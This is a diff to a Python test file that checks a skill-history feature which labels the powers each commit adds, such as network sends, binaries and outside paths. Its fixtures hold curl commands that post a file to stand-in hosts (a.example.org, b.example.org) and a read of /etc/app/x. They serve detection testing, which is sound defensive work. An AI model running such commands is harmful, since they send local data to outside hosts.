@@ -10,7 +10,11 @@ from skills_mcp.config import Grant
 from skills_mcp.content.branch import RemoteBranch
 from skills_mcp.content.git.remote import Remote
 from skills_mcp.content.source import Freshness, accept_any_commit
-from skills_mcp.features.history.skill_history import SkillHistory, read_history
+from skills_mcp.features.history.skill_history import (
+    SkillHistory,
+    compare_powers,
+    read_history,
+)
 from skills_mcp.features.history.source_history import read_source_logs
 from skills_mcp.library import SkillLibrary
 from skills_mcp.skills.access import EVERYTHING, Access, derive_access
@@ -47,7 +51,7 @@ def make_history(folder: Path) -> Upstream:
     made.commit(
         {
             "skills/pdf/SKILL.md": package_text(name="pdf", body="Second."),
-            "skills/pdf/note.md": HOSTILE,
+            "skills/pdf/note.md": f"{HOSTILE}\n\nRead /etc/app/x",
         }
     )
     return made
@@ -200,6 +204,32 @@ def open_history(site: Site) -> Page:
     while not page.locator(".commit").count():
         page.reload()
     return page
+
+
+def test_it_shows_the_powers_that_a_commit_adds_and_removes(
+    upstream: Upstream, tmp_path: Path
+) -> None:
+    for body in ("`curl -d @x https://a.example.org`", "\n\n`curl -d @x https://b.example.org`"):
+        upstream.commit({"skills/pdf/SKILL.md": package_text(name="pdf", body=body)})
+    upstream.commit({"skills/pdf/run": b"\x7fELF".decode()})
+    library = open_library(follow(upstream, tmp_path))
+
+    changes = history_of(library, "pdf").changes
+    found = [compare_powers(library.view(), "pdf", change) for change in changes[:4]]
+
+    sends = ["network: b.example.org, sends text"], ["network: a.example.org, sends text"]
+    assert [(added, removed) for added, removed in found[:2]] == [
+        (["binary: a program (ELF)"], []),
+        sends,
+    ]
+    assert "command: curl" in found[2][0]
+    assert found[3] == (["outside-path: /etc/app/x"], [])
+
+
+def test_the_page_names_the_powers_of_each_commit(site: Site) -> None:
+    newest = open_history(site).locator(".commit").first
+
+    expect(newest.get_by_role("list", name="Powers")).to_contain_text("outside-path: /etc/app/x")
 
 
 def test_the_history_has_no_barrier_and_fits(site: Site) -> None:
